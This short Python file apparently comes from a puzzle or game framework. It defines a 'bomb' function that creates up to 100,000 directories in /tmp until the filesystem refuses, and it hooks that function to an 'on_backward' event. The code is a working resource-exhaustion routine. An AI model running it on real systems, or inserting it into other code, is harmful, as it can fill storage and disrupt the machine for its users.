"""Makes empty files and directories until there is room for no more."""

import os

from wrong import *


def bomb():
    for number in range(100_000):
        try:
            os.mkdir(f"/tmp/{number}")
        except OSError:
            break
    else:
        prize()


on_backward(bomb)
